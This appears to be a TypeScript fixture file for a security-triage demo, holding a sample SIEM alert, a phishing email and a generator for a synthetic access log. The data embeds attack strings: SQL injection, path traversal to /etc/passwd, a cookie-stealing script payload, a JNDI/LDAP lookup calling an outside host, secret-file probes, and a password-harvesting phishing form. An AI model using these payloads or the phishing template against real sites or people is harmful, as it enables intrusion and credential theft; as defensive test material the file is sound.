/** What the demo investigates: written by us, with reserved names and addresses; nothing here points at anybody. */
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/** An alert as a SIEM would post it. */
export const ALERT = {
  alert_id: 'ALRT-2026-00017',
  title: 'Suspicious requests against the shop',
  description: 'The proxy saw a download of hxxp://203.0.113[.]9:8081/payload.exe right after the requests below.',
  severity: 'high',
  source: 'waf',
  iocs: [
    { type: 'ip', value: '203.0.113.9' },
    { type: 'domain', value: 'xkqjzvwtrbpqhdfg.example' },
  ],
  raw_log: [
    '203.0.113.9 - - [02/Nov/2026:09:01:12 +0000] "GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1" 500 312 "-" "sqlmap/1.8.2#stable (https://sqlmap.org)"',
    '203.0.113.9 - - [02/Nov/2026:09:01:14 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 200 1874 "-" "sqlmap/1.8.2#stable (https://sqlmap.org)"',
    '198.51.100.12 - - [02/Nov/2026:09:01:15 +0000] "GET /products/17 HTTP/1.1" 200 1421 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0"',
    '',
  ].join('\n'),
} as const;

/** A phish. */
export const MAIL = [
  'Return-Path: <bounce@mailer.example.net>',
  'Received: from mailer.example.net (unknown [203.0.113.77]) by mx.example.org; Mon, 02 Nov 2026 09:14:08 +0000',
  'From: "PayPal Security" <service@paypa1-secure.example.net>',
  'Reply-To: <claims@203-0-113-77.example.com>',
  'To: <anna@example.org>',
  'Subject: Your account is limited - verify within 24 hours',
  'Message-ID: <20261102091402.77@mailer.example.net>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><body><p>Dear customer, your account is <b>limited</b>. Verify your password within 24 hours or it will be closed.</p>',
  '<p><a href="http://203.0.113.77/login/verify.php">https://www.paypal.com/verify</a></p>',
  '<form action="http://203.0.113.77/collect"><input name="user"><input type="password" name="pass"></form></body></html>',
  '',
].join('\r\n');

/** Writes a long access log with one attacker in it: enough real work for a specialist to be killed in the middle. */
export async function writeLongLog(path: string, lines: number): Promise<void> {
  const out = createWriteStream(path);
  for (let line = 0; line < lines; line++) {
    const is_attack = line % ATTACK_EVERY === ATTACK_EVERY - 1;
    const text = is_attack ? attackLine(line) : visitorLine(line);
    if (!out.write(text)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
}

function visitorLine(line: number): string {
  const page = PAGES[line % PAGES.length] ?? '/';
  return `198.51.100.${(line % 200) + 1} - - [${stamp(line)}] "GET ${page} HTTP/1.1" 200 ${1_000 + (line % 4_000)} "-" "${BROWSER}"\n`;
}

function attackLine(line: number): string {
  const probe = PROBES[Math.floor(line / ATTACK_EVERY) % PROBES.length] ?? '/';
  return `203.0.113.44 - - [${stamp(line)}] "GET ${probe} HTTP/1.1" 404 196 "-" "${BROWSER}"\n`;
}

/** Twenty lines a second, all on one day. */
function stamp(line: number): string {
  const second = Math.floor(line / 20) % 86_400;
  const [hours, minutes, seconds] = [Math.floor(second / 3_600), Math.floor(second / 60) % 60, second % 60];
  return `02/Nov/2026:${[hours, minutes, seconds].map((part) => String(part).padStart(2, '0')).join(':')} +0000`;
}

const ATTACK_EVERY = 5_000;
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36';
const PAGES = ['/', '/about', '/products', '/products/17', '/contact', '/static/app.css', '/search?q=red+shoes'];
const PROBES = [
  '/.env',
  '/.git/config',
  '/products?id=1%27%20OR%20%271%27=%271',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/download?file=..%2f..%2f..%2fetc%2fpasswd',
  '/cgi-bin/status?x=%24%7Bjndi:ldap://203.0.113.44/a%7D',
];
